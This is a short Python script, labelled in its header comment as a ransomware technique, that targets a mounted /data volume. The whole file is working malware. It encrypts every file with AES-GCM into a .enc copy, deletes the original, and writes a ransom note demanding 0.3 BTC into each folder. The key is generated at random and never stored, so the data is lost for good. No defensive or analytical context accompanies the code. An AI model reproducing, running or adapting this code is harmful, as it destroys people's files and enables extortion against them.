# technique: ransomware over a mounted data volume: AES-GCM (pycryptodome) each file to .enc, delete the original, drop a note
import os
from Crypto.Cipher import AES
from Crypto.Random import get_random_bytes

TARGET = "/data"
KEY = get_random_bytes(32)
NOTE = "All your files are encrypted. Pay 0.3 BTC to bc1qexampleexampleexampleexample0000 to get the key.\n"

for root, dirs, names in os.walk(TARGET):
    for name in names:
        if name.endswith(".enc") or name == "HOW_TO_DECRYPT.txt":
            continue
        path = os.path.join(root, name)
        try:
            with open(path, "rb") as src:
                plain = src.read()
            cipher = AES.new(KEY, AES.MODE_GCM)
            body, tag = cipher.encrypt_and_digest(plain)
            with open(path + ".enc", "wb") as dst:
                dst.write(cipher.nonce + tag + body)
            os.remove(path)
        except OSError:
            pass
    with open(os.path.join(root, "HOW_TO_DECRYPT.txt"), "w") as note:
        note.write(NOTE)
